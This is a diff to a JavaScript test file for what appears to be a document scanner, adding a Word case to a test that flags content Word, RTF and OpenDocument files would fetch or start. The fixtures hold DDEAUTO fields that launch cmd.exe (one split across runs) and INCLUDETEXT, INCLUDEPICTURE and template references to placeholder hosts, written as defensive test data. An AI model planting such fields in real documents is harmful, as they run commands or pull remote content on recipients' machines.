@@ -436,7 +436,17 @@ test('mutated files of every kind never throw', () => {
   }
 });
 
-test('what RTF and OpenDocument would fetch or start is a finding', () => {
+test('what Word, RTF and OpenDocument would fetch or start is a finding', () => {
+  const docx = told(
+    `${OOXML}wordprocessingml.document`,
+    packed({
+      'word/document.xml':
+        '<w:document><w:r><w:instrText> DDEAU</w:instrText></w:r><w:r><w:instrText>TO c:\\\\cmd.exe &quot;/k&quot;</w:instrText></w:r></w:document>',
+      'word/header1.xml':
+        '<w:hdr><w:fldSimple w:instr="INCLUDETEXT &quot;http://a.example/x&quot;"/></w:hdr>',
+    }),
+  );
+  assert.deepEqual(docx.findings.map(({ code }) => code).sort(), ['dde-field', 'external-link']);
   const rtf = told(
     'application/rtf',
     '{\\rtf1{\\*\\template http://a.example/t.dotm}{\\field{\\*\\fldinst INCLUDEPICTURE "http://b.example/p.png"}}{\\field{\\*\\fldinst DDEAUTO "cmd" "/c calc"}}{\\field{\\*\\fldinst HYPERLINK "http://c.example"}}}',
